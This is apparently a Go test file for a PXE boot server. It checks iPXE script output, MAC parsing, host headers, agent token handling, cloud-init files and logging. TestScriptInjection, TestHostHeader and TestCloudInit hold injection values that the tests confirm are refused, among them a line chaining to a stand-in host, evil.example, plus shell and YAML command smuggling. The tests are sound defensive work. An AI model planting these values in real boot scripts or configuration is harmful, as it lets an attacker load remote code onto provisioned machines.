package pxed

import (
	"encoding/json"
	"errors"
	"net/http"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"
	"github.com/carbide-dev/carbide/edge/internal/agentconfig"
	bootv1 "github.com/carbide-dev/carbide/gen/carbide/boot/v1"
	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus/testutil"
)

const machineRemote = testLease + ":40000" // the machine itself

func TestIPXEScript(t *testing.T) {
	t.Parallel()
	const base = "http://198.18.0.2:8080"
	tests := map[string]struct {
		edit    func(*Config)
		machine *bootv1.GetBootConfigResponse // nil: the default
		path    string
		want    string
		action  string
	}{
		"discovery": {
			path: "/ipxe/" + testMAC,
			want: `#!ipxe
echo Carbide: machine 6d3c9b8e-2a8f-4c5e-9a4b-3c2d1e0f9a8b, host name node-1.lab.example
echo Carbide: booting the discovery image
kernel ` + base + `/artifacts/scout/vmlinuz initrd=scout.cpio.gz console=ttyS0,115200 console=tty0 carbide.config=` + base + `/agent/52:54:00:12:34:56.json?boot=` + testNonce + ` carbide.mac=52:54:00:12:34:56
initrd --name scout.cpio.gz ` + base + `/artifacts/scout/scout.cpio.gz
boot
`,
			action: scriptDiscovery,
		},
		"discovery with a public URL, other artifacts and arguments": {
			edit: func(c *Config) {
				c.PublicURL = "https://boot.example:8443/pxe/"
				c.DiscoveryKernel = "https://images.example/scout/v2/bzImage"
				c.DiscoveryInitrd = "v2/scout-v2.img"
				c.DiscoveryKernelArgs = "console=ttyS1,9600  quiet"
			},
			machine: &bootv1.GetBootConfigResponse{MachineId: testMachineID, Action: bootv1.BootAction_BOOT_ACTION_DISCOVERY},
			path:    "/ipxe/52-54-00-12-34-56",
			want: `#!ipxe
echo Carbide: machine 6d3c9b8e-2a8f-4c5e-9a4b-3c2d1e0f9a8b
echo Carbide: booting the discovery image
kernel https://images.example/scout/v2/bzImage initrd=scout-v2.img console=ttyS1,9600 quiet carbide.config=https://boot.example:8443/pxe/agent/52:54:00:12:34:56.json?boot=` + testNonce + ` carbide.mac=52:54:00:12:34:56
initrd --name scout-v2.img https://boot.example:8443/pxe/artifacts/v2/scout-v2.img
boot
`,
			action: scriptDiscovery,
		},
		"local disk": {
			machine: &bootv1.GetBootConfigResponse{MachineId: testMachineID, Hostname: "node-1", Action: bootv1.BootAction_BOOT_ACTION_LOCAL_DISK},
			path:    "/ipxe/52:54:00:12:34:56",
			want: `#!ipxe
echo Carbide: machine 6d3c9b8e-2a8f-4c5e-9a4b-3c2d1e0f9a8b, host name node-1
echo Carbide: booting from the local disk
exit
`,
			action: scriptLocalDisk,
		},
		"unknown machine": {
			edit: func(c *Config) { c.RetryInterval = 7 * time.Second },
			path: "/ipxe/52:54:00:AB:CD:EF",
			want: `#!ipxe
echo Carbide: no machine has MAC 52:54:00:ab:cd:ef yet, asking again in 7 seconds
sleep 7
chain --replace --autofree ` + base + `/ipxe/52:54:00:ab:cd:ef
`,
			action: scriptUnknown,
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			env := newTestEnv(t, tt.edit)
			if tt.machine != nil {
				env.fake.set(testMAC, tt.machine)
			}
			w := env.get(tt.path, machineRemote, nil)
			if w.Code != http.StatusOK {
				t.Fatalf("status %d, body %q", w.Code, w.Body)
			}
			if diff := cmp.Diff(tt.want, w.Body.String()); diff != "" {
				t.Errorf("script (-want +got):\n%s", diff)
			}
			if got := w.Header().Get("Cache-Control"); got != "no-store" {
				t.Errorf("Cache-Control = %q, want no-store", got)
			}
			// Serving the script starts a boot, from the machine's address.
			if call := env.fake.lastCall(t); call.GetClientAddress() != testLease || !call.GetStartBoot() || call.GetBootNonce() != "" {
				t.Errorf("API call %v, want start_boot from %s", call, testLease)
			}
			if got := testutil.ToFloat64(env.metrics.scripts.WithLabelValues(tt.action)); got != 1 {
				t.Errorf("carbide_pxe_scripts_total{action=%q} = %v, want 1", tt.action, got)
			}
			if got := testutil.ToFloat64(env.metrics.httpRequests.WithLabelValues(routeIPXE, "200")); got != 1 {
				t.Errorf("carbide_pxe_http_requests_total{route=ipxe,code=200} = %v, want 1", got)
			}
		})
	}
}

func TestMACInPath(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)
	for _, p := range []string{"52:54:00:12:34:56", "52-54-00-12-34-56", "52:54:00:12:34:56", "52-54-00-12-34-56", "52:54:00:12:34:56"} {
		p := strings.ToUpper(p)
		w := env.get("/ipxe/"+p, machineRemote, nil)
		if w.Code != http.StatusOK {
			t.Errorf("GET /ipxe/%s: status %d, body %q", p, w.Code, w.Body)
			continue
		}
		if got := env.fake.lastCall(t).GetMac(); got != testMAC {
			t.Errorf("GET /ipxe/%s asked the API for %q, want %q", p, got, testMAC)
		}
	}
	calls := env.fake.callCount()
	for _, p := range []string{
		"52:54:00:12:34", "52:54:00:12:34:56:78", "5254.0012.3456", "525400123456", "52:54-00:12:34:56",
		"52:54:00:12:34:5g", "52%3A54%3A00%3A12%3A34%3A5", "%0a", "52:54:00:12:34:56%0aboot", "52:54:00:12:34:5%20",
	} {
		for _, prefix := range []string{"/ipxe/", "/cloud-init/"} {
			target := prefix + p
			if prefix == "/cloud-init/" {
				target += "/meta-data"
			}
			w := env.get(target, machineRemote, nil)
			if w.Code != http.StatusBadRequest {
				t.Errorf("GET %s: status %d, want 400", target, w.Code)
			}
		}
		if w := env.get("/agent/"+p+".json", machineRemote, nil); w.Code != http.StatusBadRequest {
			t.Errorf("GET /agent/%s.json: status %d, want 400", p, w.Code)
		}
	}
	if n := env.fake.callCount(); n != calls {
		t.Errorf("malformed MACs made %d API calls, want none", n-calls)
	}
}

func TestParseMAC(t *testing.T) {
	t.Parallel()
	tests := map[string]string{ // "" when refused
		"52:54:00:12:34:56":  "52:54:00:12:34:56",
		"52-54-00-12-34-56":  "52:54:00:12:34:56",
		"AA:BB:CC:DD:EE:FF":  "aa:bb:cc:dd:ee:ff",
		"Aa-bB-0c-D0-e1-F2":  "aa:bb:0c:d0:e1:f2",
		"aa:bb:cc:dd:ee":     "",
		"aa:bb:cc:dd:ee:ff:": "",
		"aa:bb-cc:dd:ee:ff":  "",
		"aa.bb.cc.dd.ee.ff":  "",
		"aabb.ccdd.eeff":     "",
		"aa:bb:cc:dd:ee:fg":  "",
		"aa:bb:cc:dd:ee:f ":  "",
		" a:bb:cc:dd:ee:ff":  "",
		"":                   "",
	}
	for in, want := range tests {
		got, ok := parseMAC(in)
		if ok != (want != "") || got != want {
			t.Errorf("parseMAC(%q) = %q, %v; want %q", in, got, ok, want)
		}
	}
}

// TestScriptInjection gives the API's answers values that would add iPXE
// commands if placed into a script as they are: each is refused with 500,
// logged, and no script is served.
func TestScriptInjection(t *testing.T) {
	t.Parallel()
	attacks := []string{
		"node-1\nchain http://evil.example/x",
		"node-1\r\nshell",
		"node-1 || shell",
		"node-1&&shell",
		"node-1;shell",
		"${net0/mac}",
		"node-${x}",
		"node-1 #",
		"#!ipxe",
		"node 1",
		"node-1\x00",
		"node-1'",
		`node-1"`,
		`node-1\`,
		"node-1\tshell",
		"-node",
		"node..example",
		strings.Repeat("a", 64),
	}
	for _, field := range []string{"hostname", "machine_id"} {
		for _, attack := range attacks {
			if field == "machine_id" && attack == strings.Repeat("a", 64) {
				continue // a valid machine ID, just not a valid host name label
			}
			t.Run(field+"/"+attack, func(t *testing.T) {
				t.Parallel()
				env := newTestEnv(t, nil)
				m := &bootv1.GetBootConfigResponse{MachineId: testMachineID, Hostname: testHostname, Action: bootv1.BootAction_BOOT_ACTION_DISCOVERY}
				if field == "hostname" {
					m.Hostname = attack
				} else {
					m.MachineId = attack
				}
				env.fake.set(testMAC, m)
				for _, action := range []bootv1.BootAction{bootv1.BootAction_BOOT_ACTION_DISCOVERY, bootv1.BootAction_BOOT_ACTION_LOCAL_DISK} {
					m.Action = action
					env.fake.set(testMAC, m)
					w := env.get("/ipxe/"+testMAC, machineRemote, nil)
					if w.Code != http.StatusInternalServerError {
						t.Errorf("%s: status %d, want 500; body:\n%s", action, w.Code, w.Body)
					}
					if strings.Contains(w.Body.String(), "ipxe") || strings.Contains(w.Body.String(), "shell") {
						t.Errorf("%s: body carries script text: %q", action, w.Body)
					}
					for _, seed := range []string{"meta-data", "user-data"} {
						w := env.get("/cloud-init/"+testMAC+"/"+seed, machineRemote, nil)
						if w.Code != http.StatusInternalServerError {
							t.Errorf("%s: status %d, want 500; body:\n%s", seed, w.Code, w.Body)
						}
					}
				}
				if !strings.Contains(env.log.String(), "refuse to place") && !strings.Contains(env.log.String(), "invalid") {
					t.Errorf("the refusal is not logged:\n%s", env.log)
				}
				if got := testutil.ToFloat64(env.metrics.apiErrors.WithLabelValues(codeInvalidResponse)); got != 6 {
					t.Errorf("carbide_pxe_api_errors_total{code=invalid_response} = %v, want 6", got)
				}
			})
		}
	}
}

func TestHostHeader(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)
	for host, ok := range map[string]bool{
		"198.18.0.2":        true,
		"198.18.0.2:8080":   true,
		"pxe.example":       true,
		"pxe.example:80":    true,
		"[2001:db8::1]:80":  true,
		"[2001:db8::1]":     true,
		"pxe.example\nboot": false,
		"pxe.example;boot":  false,
		"pxe.example:80x":   false,
		"pxe.example:+80":   false,
		"pxe.example:":      false,
		"a b":               false,
		"${x}":              false,
		"x#":                false,
		"":                  false,
		"[2001:db8::zz]":    false,
		"user@pxe.example":  false,
	} {
		req := httptestRequest("/ipxe/"+testMAC, machineRemote)
		req.Host = host
		w := serve(env.h, req)
		switch {
		case ok && w.Code != http.StatusOK:
			t.Errorf("Host %q: status %d, want 200; body %q", host, w.Code, w.Body)
		case ok && !strings.Contains(w.Body.String(), "http://"+host+"/agent/"):
			t.Errorf("Host %q: the script does not use it as its base:\n%s", host, w.Body)
		case !ok && w.Code != http.StatusBadRequest:
			t.Errorf("Host %q: status %d, want 400; body %q", host, w.Code, w.Body)
		}
	}
	// With --public-url, the Host header is not used at all.
	env = newTestEnv(t, func(c *Config) { c.PublicURL = "http://10.0.0.1:8080" })
	req := httptestRequest("/ipxe/"+testMAC, machineRemote)
	req.Host = "evil\nboot"
	if w := serve(env.h, req); w.Code != http.StatusOK || strings.Contains(w.Body.String(), "evil") {
		t.Errorf("with --public-url: status %d, body:\n%s", w.Code, w.Body)
	}
}

func TestAPIUnavailable(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		fail func(*fakeBoot)
		code string
	}{
		"unavailable": {fail: func(f *fakeBoot) { f.setErr(connect.NewError(connect.CodeUnavailable, errors.New("database down"))) }, code: "unavailable"},
		"permission denied": {fail: func(f *fakeBoot) {
			f.setErr(connect.NewError(connect.CodePermissionDenied, errors.New("role pxe may not")))
		}, code: "permission_denied"},
		"deadline": {fail: func(f *fakeBoot) {
			f.mu.Lock()
			f.block = true
			f.mu.Unlock()
		}, code: "deadline_exceeded"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			env := newTestEnv(t, func(c *Config) { c.APITimeout = 100 * time.Millisecond })
			tt.fail(env.fake)
			paths := []string{"/ipxe/" + testMAC, "/agent/" + testMAC + ".json?boot=" + testNonce, "/cloud-init/" + testMAC + "/meta-data", "/cloud-init/" + testMAC + "/user-data"}
			for _, p := range paths {
				w := env.get(p, machineRemote, nil)
				if w.Code != http.StatusServiceUnavailable {
					t.Errorf("GET %s: status %d, want 503", p, w.Code)
				}
				if got := w.Header().Get("Retry-After"); got != "5" {
					t.Errorf("GET %s: Retry-After %q, want 5", p, got)
				}
				if body := w.Body.String(); strings.Contains(body, "#!ipxe") || strings.Contains(body, "kernel") || !strings.Contains(body, "API") {
					t.Errorf("GET %s: body %q, want a short message and no script", p, body)
				}
			}
			if got := testutil.ToFloat64(env.metrics.apiErrors.WithLabelValues(tt.code)); got != float64(len(paths)) {
				t.Errorf("carbide_pxe_api_errors_total{code=%q} = %v, want %d", tt.code, got, len(paths))
			}
			if !strings.Contains(env.log.String(), "api_code="+tt.code) {
				t.Errorf("the log does not name the API error:\n%s", env.log)
			}
		})
	}
}

func TestUnknownBootAction(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)
	env.fake.set(testMAC, &bootv1.GetBootConfigResponse{MachineId: testMachineID, Action: bootv1.BootAction(42)})
	w := env.get("/ipxe/"+testMAC, machineRemote, nil)
	if w.Code != http.StatusInternalServerError || strings.Contains(w.Body.String(), "#!ipxe") {
		t.Errorf("status %d, body %q; want 500 and no script", w.Code, w.Body)
	}
	env.fake.set(testMAC, &bootv1.GetBootConfigResponse{MachineId: testMachineID})
	if w := env.get("/ipxe/"+testMAC, machineRemote, nil); w.Code != http.StatusInternalServerError {
		t.Errorf("unspecified action: status %d, want 500", w.Code)
	}
}

func TestAgentConfig(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)

	// The machine itself, from its leased address, with its boot's nonce.
	w := env.get("/agent/"+strings.ToUpper(testMAC)+".json?boot="+testNonce, machineRemote, nil)
	if w.Code != http.StatusOK {
		t.Fatalf("status %d, body %q", w.Code, w.Body)
	}
	if got := w.Header().Get("Content-Type"); got != "application/json" {
		t.Errorf("Content-Type = %q", got)
	}
	if got := w.Header().Get("Cache-Control"); got != "no-store" {
		t.Errorf("Cache-Control = %q, want no-store", got)
	}
	var got agentconfig.Config
	if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	want := agentconfig.Config{
		APIURL:          "https://198.18.0.1:1079",
		CAPEM:           env.caPEM,
		MachineID:       testMachineID,
		Token:           testToken,
		TokenExpireTime: testExpiry,
		CloudInitURL:    "http://198.18.0.2:8080/cloud-init/52:54:00:12:34:56/",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("agent configuration (-want +got):\n%s", diff)
	}
	if call := env.fake.lastCall(t); call.GetMac() != testMAC || call.GetClientAddress() != testLease || call.GetBootNonce() != testNonce {
		t.Errorf("API call %v, want the MAC, the leased address and the nonce", call)
	}
	if strings.Contains(env.log.String(), testNonce) {
		t.Errorf("the log holds the boot nonce:\n%s", env.log)
	}

	// No nonce, or a malformed one: the API is not asked.
	calls := env.fake.callCount()
	if w := env.get("/agent/"+testMAC+".json", machineRemote, nil); w.Code != http.StatusForbidden || !strings.Contains(w.Body.String(), "no boot nonce") {
		t.Errorf("without a nonce: status %d, body %q; want 403 saying why", w.Code, w.Body)
	}
	if w := env.get("/agent/"+testMAC+".json?boot=short", machineRemote, nil); w.Code != http.StatusBadRequest {
		t.Errorf("a malformed nonce: status %d, want 400", w.Code)
	}
	if env.fake.callCount() != calls {
		t.Errorf("the API was asked without a usable nonce")
	}
	// Another nonce: the API withholds the token.
	if w := env.get("/agent/"+testMAC+".json?boot=x"+testNonce[1:], machineRemote, nil); w.Code != http.StatusForbidden {
		t.Errorf("another nonce: status %d, want 403", w.Code)
	}

	// Another address: the API withholds the token.
	w = env.get("/agent/"+testMAC+".json?boot="+testNonce, "10.0.0.99:40000", nil)
	if w.Code != http.StatusForbidden {
		t.Errorf("from another address: status %d, want 403", w.Code)
	}
	if body := w.Body.String(); !strings.Contains(body, "does not hold the lease") || strings.Contains(body, testToken) {
		t.Errorf("from another address: body %q, want the API's reason and no token", body)
	}
	if got := w.Header().Get("Cache-Control"); got != "no-store" {
		t.Errorf("403: Cache-Control = %q, want no-store", got)
	}
	// An IPv6 client has no IPv4 lease: no client_address is sent.
	w = env.get("/agent/"+testMAC+".json?boot="+testNonce, "[2001:db8::5]:40000", nil)
	if w.Code != http.StatusForbidden || env.fake.lastCall(t).GetClientAddress() != "" {
		t.Errorf("from IPv6: status %d, client_address %q; want 403 and none", w.Code, env.fake.lastCall(t).GetClientAddress())
	}

	// A machine that boots from its disk has no agent configuration.
	env.fake.set(testMAC, &bootv1.GetBootConfigResponse{MachineId: testMachineID, Action: bootv1.BootAction_BOOT_ACTION_LOCAL_DISK})
	w = env.get("/agent/"+testMAC+".json?boot="+testNonce, machineRemote, nil)
	if w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "not being discovered") {
		t.Errorf("local disk: status %d, body %q; want 409", w.Code, w.Body)
	}

	// A MAC no machine has.
	w = env.get("/agent/52:54:00:00:00:01.json?boot="+testNonce, machineRemote, nil)
	if w.Code != http.StatusNotFound {
		t.Errorf("unknown MAC: status %d, want 404", w.Code)
	}
	// Not a .json name.
	if w := env.get("/agent/"+testMAC, machineRemote, nil); w.Code != http.StatusNotFound {
		t.Errorf("no .json: status %d, want 404", w.Code)
	}

	if strings.Contains(env.log.String(), testToken) {
		t.Errorf("the log holds the token:\n%s", env.log)
	}
	for _, code := range []string{"200", "403", "409", "404"} {
		if testutil.ToFloat64(env.metrics.httpRequests.WithLabelValues(routeAgent, code)) == 0 {
			t.Errorf("carbide_pxe_http_requests_total{route=agent,code=%s} not counted", code)
		}
	}
}

func TestAgentConfigWithoutExpiry(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)
	api := &staticAPI{resp: &bootv1.GetBootConfigResponse{MachineId: testMachineID, Action: bootv1.BootAction_BOOT_ACTION_DISCOVERY, AgentToken: testToken}}
	env.h.api = api
	w := env.get("/agent/"+testMAC+".json?boot="+testNonce, machineRemote, nil)
	if w.Code != http.StatusInternalServerError || strings.Contains(w.Body.String(), testToken) {
		t.Errorf("status %d, body %q; want 500 without the token", w.Code, w.Body)
	}
	if strings.Contains(env.log.String(), testToken) {
		t.Errorf("the log holds the token:\n%s", env.log)
	}
}

func TestCloudInit(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)
	tests := map[string]struct {
		machine *bootv1.GetBootConfigResponse
		file    string
		want    string
	}{
		"meta-data": {file: "meta-data", want: "instance-id: \"" + testMachineID + "\"\nlocal-hostname: \"" + testHostname + "\"\n"},
		"user-data": {file: "user-data", want: "#cloud-config\nhostname: \"node-1\"\nfqdn: \"node-1.lab.example\"\n"},
		"meta-data without a host name": {
			machine: &bootv1.GetBootConfigResponse{MachineId: testMachineID, Action: bootv1.BootAction_BOOT_ACTION_LOCAL_DISK},
			file:    "meta-data",
			want:    "instance-id: \"" + testMachineID + "\"\nlocal-hostname: \"" + testMachineID + "\"\n",
		},
		"user-data with a short host name": {
			machine: &bootv1.GetBootConfigResponse{MachineId: testMachineID, Hostname: "true", Action: bootv1.BootAction_BOOT_ACTION_LOCAL_DISK},
			file:    "user-data",
			want:    "#cloud-config\nhostname: \"true\"\n",
		},
		"vendor-data": {file: "vendor-data", want: ""},
	}
	for name, tt := range tests {
		m := tt.machine
		if m == nil {
			m = &bootv1.GetBootConfigResponse{MachineId: testMachineID, Hostname: testHostname, Action: bootv1.BootAction_BOOT_ACTION_LOCAL_DISK}
		}
		env.fake.set(testMAC, m)
		w := env.get("/cloud-init/"+testMAC+"/"+tt.file, machineRemote, nil)
		if w.Code != http.StatusOK {
			t.Errorf("%s: status %d, body %q", name, w.Code, w.Body)
			continue
		}
		if diff := cmp.Diff(tt.want, w.Body.String()); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	if w := env.get("/cloud-init/52:54:00:00:00:01/meta-data", machineRemote, nil); w.Code != http.StatusNotFound {
		t.Errorf("unknown MAC: status %d, want 404", w.Code)
	}
	if w := env.get("/cloud-init/"+testMAC+"/network-config", machineRemote, nil); w.Code != http.StatusNotFound {
		t.Errorf("network-config: status %d, want 404", w.Code)
	}
	// A host name that would add a YAML key is refused.
	env.fake.set(testMAC, &bootv1.GetBootConfigResponse{MachineId: testMachineID, Hostname: "x\"\nruncmd: [reboot]", Action: bootv1.BootAction_BOOT_ACTION_LOCAL_DISK})
	if w := env.get("/cloud-init/"+testMAC+"/user-data", machineRemote, nil); w.Code != http.StatusInternalServerError || strings.Contains(w.Body.String(), "runcmd") {
		t.Errorf("YAML injection: status %d, body %q; want 500", w.Code, w.Body)
	}
}

func TestRequestLog(t *testing.T) {
	t.Parallel()
	env := newTestEnv(t, nil)
	env.get("/ipxe/"+testMAC+"?token=do-not-log", machineRemote, nil)
	env.get("/nothing-here", machineRemote, nil)
	log := env.log.String()
	for _, want := range []string{
		`msg="http request" method=GET path=/ipxe/52:54:00:12:34:56 status=200 bytes=`,
		"client=" + testLease, "duration=", "machine_id=" + testMachineID, "action=BOOT_ACTION_DISCOVERY",
		`path=/nothing-here status=404`,
	} {
		if !strings.Contains(log, want) {
			t.Errorf("the log does not hold %q:\n%s", want, log)
		}
	}
	if strings.Contains(log, "do-not-log") {
		t.Errorf("the log holds the query string:\n%s", log)
	}
	if got := testutil.ToFloat64(env.metrics.httpRequests.WithLabelValues(routeOther, "404")); got != 1 {
		t.Errorf("carbide_pxe_http_requests_total{route=other,code=404} = %v, want 1", got)
	}
}
